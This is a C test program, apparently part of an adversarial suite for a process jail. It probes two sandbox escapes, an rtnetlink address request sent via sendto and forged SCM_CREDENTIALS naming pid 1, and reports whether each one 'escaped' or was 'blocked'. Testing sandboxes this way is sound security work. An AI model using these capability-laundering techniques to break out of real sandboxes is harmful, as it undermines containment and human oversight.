/* Capability laundering: calls jail performs for the tree (on a duplicate of
 * the tree's socket) run with jail's credentials. A root jail whose tree has
 * a reduced capability set then lends the tree its own:
 *  - an rtnetlink request sent with sendto(sockaddr_nl) passes the kernel's
 *    CAP_NET_ADMIN check, where the same request by send() is refused;
 *  - SCM_CREDENTIALS naming pid 1 passes the CAP_SYS_ADMIN check.
 * Each is an escape only when the tree itself lacks the capability (checked).
 * Usage: adv_launder <token> */
#include "adv_netlink.h"
#include <linux/capability.h>
#include <sys/un.h>

static unsigned long long cap_eff(void) {
  FILE *f = fopen("/proc/self/status", "r");
  char line[256];
  unsigned long long c = 0;
  while (f && fgets(line, sizeof line, f)) {
    if (sscanf(line, "CapEff: %llx", &c) == 1) break;
  }
  if (f) fclose(f);
  return c;
}

/* RTM_NEWADDR of a run-unique 10.77.x.y/32 on lo; returns the ack's errno (0 = done). */
static int newaddr(int by_sendto, int salt) {
  int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
  struct nl_addr m;
  struct in_addr ip = {htonl(0x0a4d0000 | ((getpid() * 2 + salt) & 0xffff))};
  newaddr_lo(&m, &ip);
  struct sockaddr_nl k = {.nl_family = AF_NETLINK};
  long rc = by_sendto ? sendto(fd, &m, m.h.nlmsg_len, 0, (struct sockaddr *)&k, sizeof k)
                      : send(fd, &m, m.h.nlmsg_len, 0);
  if (rc < 0) {
    int e = errno;
    close(fd);
    return e;
  }
  char buf[512];
  int n = recv(fd, buf, sizeof buf, 0);
  close(fd);
  struct nlmsghdr *h = (void *)buf;
  if (n <= 0 || h->nlmsg_type != NLMSG_ERROR) return EPROTO;
  return -((struct nlmsgerr *)NLMSG_DATA(h))->error;
}

static void creds(unsigned long long caps) {
  struct sockaddr_un a = {.sun_family = AF_UNIX};
  snprintf(a.sun_path, sizeof a.sun_path, "launder-%d.sock", getpid());
  int d = socket(AF_UNIX, SOCK_DGRAM, 0), one = 1;
  setsockopt(d, SOL_SOCKET, SO_PASSCRED, &one, sizeof one);
  if (bind(d, (struct sockaddr *)&a, sizeof a) < 0) {
    blocked_at("scm-credentials-pid1", "bind");
    return;
  }
  int s = socket(AF_UNIX, SOCK_DGRAM, 0);
  char cb[CMSG_SPACE(sizeof(struct ucred))] = {0};
  struct iovec v = {"x", 1};
  struct msghdr m = {.msg_name = &a, .msg_namelen = sizeof a, .msg_iov = &v, .msg_iovlen = 1,
                     .msg_control = cb, .msg_controllen = sizeof cb};
  struct ucred u = {.pid = 1, .uid = getuid(), .gid = getgid()};
  memcpy(put_cmsg(&m, SOL_SOCKET, SCM_CREDENTIALS, sizeof u), &u, sizeof u);
  if (sendmsg(s, &m, 0) < 0) {
    blocked("scm-credentials-pid1");
  } else {
    char b[8], rb[256];
    struct iovec rv = {b, sizeof b};
    struct msghdr r = {.msg_iov = &rv, .msg_iovlen = 1, .msg_control = rb, .msg_controllen = sizeof rb};
    if (recvmsg(d, &r, MSG_DONTWAIT) > 0 && CMSG_FIRSTHDR(&r)) {
      struct ucred got;
      memcpy(&got, CMSG_DATA(CMSG_FIRSTHDR(&r)), sizeof got);
      int own = (caps >> CAP_SYS_ADMIN) & 1;
      out("%s scm-credentials-pid1 a receiver saw pid %d (the tree %s CAP_SYS_ADMIN)",
          got.pid == 1 && !own ? "escaped" : "info", got.pid, own ? "has" : "lacks");
    } else {
      out("info scm-credentials-pid1 nothing received");
    }
  }
  unlink(a.sun_path);
}

int main(void) {
  unsigned long long caps = cap_eff();
  out("info caps CapEff %llx", caps);
  int by_send = newaddr(0, 0), by_sendto = newaddr(1, 1);
  out("info rtnetlink-newaddr by send(): %s, by sendto(sockaddr_nl): %s",
      by_send ? strerrorname_np(by_send) : "done", by_sendto ? strerrorname_np(by_sendto) : "done");
  int own = (caps >> CAP_NET_ADMIN) & 1;
  out("%s rtnetlink-via-jail (the tree %s CAP_NET_ADMIN)",
      by_sendto == 0 && !own ? "escaped" : "blocked", own ? "has" : "lacks");
  creds(caps);
  out("done");
  return 0;
}
